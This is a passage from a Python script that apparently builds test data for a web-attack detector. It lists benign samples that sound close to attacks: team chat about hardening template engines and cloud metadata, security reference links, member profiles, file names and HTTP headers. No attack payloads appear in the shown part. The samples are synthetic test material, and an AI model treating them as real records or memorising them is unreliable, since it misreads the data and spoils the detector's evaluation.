    "CTF club minutes: 9 members present, next event is the regional qualifier, sign up by Friday.",
    "Audit finding closed: instance metadata requires tokens (IMDSv2) on all EC2 hosts.",
    "The admin panel JSP pages are read-only; uploads are stored in S3, never in the webapp directory.",
    "Spring Boot actuator endpoints are only exposed on the management port behind the VPN.",
    "Handlebars templates are precompiled at build time; users cannot upload templates.",
    "Prototype pollution fix: we now use Object.create(null) for the merged options object.",
    "Java deserialization: the RMI registry is not exposed and ObjectInputFilter allows our classes only.",
    "Data URIs are allowed for avatars up to 64 KB, PNG and JPEG only.",
    "The Node.js service runs with --disallow-code-generation-from-strings since the last review.",
    "Jenkins script console access was removed from the developers group.",
    "Team write-up index: web (5 challenges), crypto (3), pwn (2), forensics (4), misc (6).",
    "Please review: the email templates move from EJS to Nunjucks, same variables.",
    "The Go status page uses html/template; the layout is in templates/base.html.",
    "Razor view for the receipt needs the currency formatted with the customer's culture.",
    "Mako is only used by Alembic to render migration scripts from script.py.mako.",
    "OWASP Top 10 reading group: this week is A10, server-side request forgery.",
    "Customer bug: the Liquid snippet in their store theme shows an error on the product page.",
    "We rotated the cookie_secret of the internal Tornado dashboard as a precaution.",
    "The Smarty cache directory filled the disk; a cron job now clears it nightly.",
    "Java team: please don't use Runtime.exec for image resizing, the library handles it in-process.",
    "Pebble template autoescaping is on by default; keep it that way.",
    "Meeting notes: XStream stays for the legacy import, with the security framework allowlist enabled.",
    "The OGNL upgrade in the old Struts app is blocked on the framework migration.",
    "Interns: the CTF practice platform is at ctf.training.internal, use your SSO login.",
    "The Pug templates in the marketing site were converted to plain HTML last month.",
    "Tip from the write-up: check the response headers, the flag was in X-Flag on an error page.",
    "Azure App Service uses the IDENTITY_ENDPOINT variable, not the 169.254 address.",
    "Reminder: the DigitalOcean metadata API is only reachable from inside a droplet.",
    "Support macro: if the import fails with 'unsupported file type', ask the user to export as CSV.",
]

URLS = [
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://spring.io/security/cve-2022-22965",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://portswigger.net/web-security/prototype-pollution",
    "https://portswigger.net/web-security/ssrf",
    "https://owasp.org/www-project-top-ten/",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://twig.symfony.com/doc/3.x/",
    "https://freemarker.apache.org/docs/",
    "https://handlebarsjs.com/guide/",
    "https://github.com/advisories?query=prototype+pollution",
    "https://ctftime.org/writeups",
    "https://picoctf.org/",
    "https://x-stream.github.io/security.html",
    "https://github.com/FasterXML/jackson-docs/wiki/JacksonPolymorphicDeserialization",
    "https://nodejs.org/api/child_process.html",
    "https://ruby-doc.org/stdlib/libdoc/psych/rdoc/Psych.html",
]

PROFILES = [
    ("Maya Chen", "CTF captain, web and Java challenges"),
    ("Tomasz Wiśniewski", "SSRF enthusiast, builds the training labs"),
    ("Aïsha Diallo", "Template engines nerd (Jinja2, Twig, Thymeleaf)"),
    ("Jonas Berg", "Node.js backend, ex-Handlebars maintainer"),
    ("Priya Raman", "AppSec at Example Corp, log4j incident lead"),
    ("Lucas Ferreira", "Ruby on Rails, ERB and YAML"),
    ("Hannah Schultz", "Perl and shell scripts for the reports team"),
    ("Kenji Watanabe", "Cloud security, AWS/GCP/Azure metadata hardening"),
    ("Sofia Rossi", "picoCTF mentor, loves prototype chains"),
    ("Omar Haddad", "Java deserialization research, Spring Boot"),
    ("Elena Petrova", "FreeMarker and Velocity migration lead"),
    ("Daniel O'Brien", "Go developer, html/template fan"),
    ("Chloé Martin", "Jekyll docs and Liquid themes"),
    ("Ravi Kumar", "Tornado and Mako in the analytics stack"),
    ("Grace Kim", "OGNL, SpEL and EL trainer for the secure coding course"),
]

UPLOAD_NAMES = [
    "ctf-writeup-jinja2.md", "log4j-remediation-plan.pdf", "ssti-cheatsheet.png", "jsp-migration.xlsx",
    "prototype-pollution-talk.pptx", "imdsv2-rollout.csv", "handlebars-templates.zip", "users_export.csv",
    "team-photo-ctf-finals.jpg", "ruby-yaml-audit.txt", "spring4shell-postmortem.docx", "freemarker-to-thymeleaf.md",
]

BENIGN_HEADERS = [
    ("Referer", "https://ctftime.org/event/2210"),
    ("Referer", "https://portswigger.net/web-security/server-side-template-injection/exploiting"),
    ("Referer", "https://logging.apache.org/log4j/2.x/security.html"),
    ("Referer", "https://github.com/advisories?query=handlebars"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "Java/17.0.10"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.72"),
    ("User-Agent", "Go-http-client/2.0"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.10)"),
    ("X-Api-Version", "2024-06-01"),
    ("Accept-Language", "en-GB,en;q=0.9,fr;q=0.8"),
    ("X-Request-Id", "0f8e1c3a-7b2d-4e55-9a61-2c4d8e9f0a11"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from SET.searches(SEARCHES, NAME, n)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((_json("/api/users", {"name": who, "bio": bio, "email": "member@example.org"})
                             for who, bio in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from SET.uploads(UPLOAD_NAMES, NAME, n)
    yield from SET.headers(BENIGN_HEADERS, NAME, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
